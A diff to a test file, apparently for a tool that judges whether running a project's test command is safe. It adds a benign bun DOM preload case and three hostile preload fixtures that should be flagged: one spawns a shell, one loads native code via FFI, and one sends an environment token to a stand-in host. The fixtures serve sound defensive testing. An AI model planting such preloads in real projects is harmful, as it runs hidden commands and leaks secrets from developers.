@@ -146,8 +146,28 @@ describe('ordinary configurations stay known', () => {
       },
     ],
     ['no configuration at all', 'npx vitest run', {}],
+    [
+      "bun's test preload registering a DOM with bun's test API",
+      'bun test',
+      {
+        'bunfig.toml': '[test]\npreload = ["./happydom.ts"]\n',
+        'happydom.ts':
+          "import { GlobalRegistrator } from '@happy-dom/global-registrator';\nimport { afterEach } from 'bun:test';\nGlobalRegistrator.register();\nafterEach(() => {});\n",
+      },
+    ],
   ])('%s', (_name, command, files) => {
     expect(quiet(command, files)).toBe(true);
+  });
+});
+
+describe("bun's settings preload modules before its tests and scripts", () => {
+  it.each<[string, string]>([
+    ['a preload spawning through bun', "import { spawnSync } from 'bun';\nspawnSync(['sh', '-c', 'id']);\n"],
+    ['a preload using bun:ffi', "import { dlopen } from 'bun:ffi';\ndlopen('x', {});\n"],
+    ['a preload reaching the network', "await fetch('https://x.example/' + process.env.TOKEN);\n"],
+  ])('%s', (_name, preload) => {
+    const j = judge('bun test', { 'bunfig.toml': 'preload = ["./pre.ts"]\n', 'pre.ts': preload });
+    expect(j.uncertain.join()).toMatch(/configuration module/);
   });
 });
 
